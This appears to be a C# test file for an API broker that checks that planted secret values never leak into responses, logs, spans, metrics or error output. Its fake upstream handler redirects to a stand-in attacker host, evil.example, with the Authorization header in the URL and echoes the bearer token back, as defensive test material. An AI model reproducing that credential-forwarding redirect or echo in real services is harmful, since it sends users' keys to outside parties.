using System.Net;
using Broker.Service.Requests;
using Broker.Tests.Infrastructure;
using Microsoft.AspNetCore.Http;
using Microsoft.Extensions.DependencyInjection;

namespace Broker.Tests.Threats;

/// <summary>C49: marked values go in, and all that is told is searched for them: answers, events, logs, spans and metrics. The marks are each test's own, since spans and metrics are the whole process's.</summary>
public class CanaryTests
{
    private readonly Marks _marks = new();

    [Fact]
    public async Task C49_Marks_InWhateverHappens_AreInNothingThatIsTold()
    {
        using var tap = new TelemetryTap();
        await using var stage = await StartAsync(tap.Tap);

        var answers = await RunAllAsync(stage);

        Assert.NotEmpty(tap.Logs);
        Assert.NotEmpty(tap.Spans);
        Assert.NotEmpty(tap.Measurements);
        Assert.Contains(stage.Upstream.Requests, request => request.Headers["Authorization"].Contains($"Bearer {_marks.Key}"));
        _marks.AssertAbsent(answers);
        _marks.AssertAbsent(string.Join('\n', stage.Broker.EventLines()));
        _marks.AssertAbsent(string.Join('\n', tap.Logs));
        _marks.AssertAbsent(string.Join('\n', tap.Spans));
        _marks.AssertAbsent(string.Join('\n', tap.Measurements));
    }

    [Fact]
    public async Task C49_Credentials_EvenIfTheFrameworkLoggedEverything_AreInNoLine()
    {
        using var tap = new TelemetryTap();
        await using var stage = await StartAsync(tap.TapUnfiltered);

        await RunAllAsync(stage);

        Assert.Contains(tap.Logs, line => line.StartsWith("Microsoft.AspNetCore.", StringComparison.Ordinal) && line.Contains(" Debug ", StringComparison.Ordinal));
        Assert.DoesNotContain(tap.Logs, line => line.Contains(_marks.Key, StringComparison.Ordinal));
        Assert.DoesNotContain(tap.Logs, line => line.Contains(_marks.Token, StringComparison.Ordinal));
        Assert.DoesNotContain(tap.Logs, line => line.Contains(_marks.Prompt, StringComparison.Ordinal));
    }

    [Fact]
    public async Task C49_Fault_WhoseMessageHasTheKey_TellsItNobody()
    {
        using var tap = new TelemetryTap();
        await using var stage = await StartAsync(services =>
        {
            tap.Tap(services);
            services.AddSingleton<IForwarder>(new FailingForwarder($"{_marks.Key} {_marks.Prompt}"));
        });

        var answer = await stage.AssertRefusedAsync(new RawRequest { Token = _marks.Token }, 500, "internal_error");

        _marks.AssertAbsent(answer.ToString());
        _marks.AssertAbsent(tap.Everything);
        Assert.Contains(tap.Logs, line => line.Contains(nameof(InvalidOperationException), StringComparison.Ordinal));
    }

    /// <summary>One request for each way in which requests end, with the marks in them.</summary>
    private async Task<string> RunAllAsync(Stage stage)
    {
        var body = $$"""{"model":"gpt-4o-mini","input":"{{_marks.Prompt}}"}""";
        var request = new RawRequest { Token = _marks.Token, Body = body };
        RawRequest[] requests =
        [
            request,
            request with { Token = null, Headers = [$"Authorization: Bearer {_marks.Token}"] },
            request with { Headers = [$"Authorization: Bearer {_marks.Token}x"] },
            request with { Target = $"/v1/responses?key={_marks.Query}" },
            request with { Method = "GET", Target = $"/v1/responses?key={_marks.Query}", Body = "" },
            request with { Method = "PUT", Target = $"/x?{_marks.Query}" },
            request with { Host = "evil.example", Target = $"http://evil.example/?{_marks.Query}" },
            request with { Headers = ["Origin: https://evil.example"] },
            request with { Token = "x" },
            request with { Body = body + _marks.Prompt },
            request with { Body = $"\"{_marks.Prompt}{new string('x', 300 * 1024)}\"" },
            request with { Target = "/v1/chat/completions" },
            request with { Target = "/v1/embeddings" },
            request with { Target = "/v1/abort" },
            request with { Target = "/v1/echo" },
            request with { Headers = ["traceparent: 00-0af7651916cd43dd8448eb211c80319c-b7ad6b7169203331-01", $"baggage: k={_marks.Token}"] },
        ];
        var answers = new List<string>();
        foreach (var one in requests)
        {
            answers.Add(await stage.Broker.SendRawAsync(one.Text, Patience.Token));
        }

        // Where the broker breaks off, the reset can overtake what was sent before it.
        Assert.All(answers, (answer, i) => Assert.True(
            answer.StartsWith("HTTP/1.1 ", StringComparison.Ordinal) || (answer.Length == 0 && requests[i].Target == "/v1/abort"), requests[i].Text));
        return string.Join('\n', answers);
    }

    private Task<Stage> StartAsync(Action<IServiceCollection> customize) => Stage.StartAsync(
        options => options with
        {
            AllowedPaths = [.. options.AllowedPaths, RunningBroker.Post("/v1/abort"), RunningBroker.Post("/v1/echo")],
            UpstreamTimeout = TimeSpan.FromMilliseconds(400),
        },
        AnswerAsync,
        new Dictionary<string, string> { ["BROKER_CLIENT_TOKEN"] = _marks.Token, ["PROVIDER_API_KEY"] = _marks.Key },
        customize);

    private static async Task AnswerAsync(HttpContext context)
    {
        switch (context.Request.Path.Value)
        {
            case "/v1/chat/completions":
                context.Response.Redirect($"http://evil.example/?{context.Request.Headers.Authorization}");
                break;
            case "/v1/embeddings":
                await Task.Delay(Timeout.Infinite, context.RequestAborted).ConfigureAwait(ConfigureAwaitOptions.SuppressThrowing);
                break;
            case "/v1/abort":
                await context.Response.Body.WriteAsync("data: "u8.ToArray());
                await context.Response.Body.FlushAsync();
                context.Abort();
                break;
            default:
                context.Response.StatusCode = (int)HttpStatusCode.Forbidden;
                context.Response.Headers["X-Echo"] = context.Request.Headers.Authorization;
                await context.Response.WriteAsync($"{context.Request.Headers.Authorization}");
                break;
        }
    }

    private sealed class FailingForwarder(string message) : IForwarder
    {
        public Task<Outcome> ForwardAsync(RequestRecord record, Verdict.Admitted admitted) => throw new InvalidOperationException(message);
    }
}
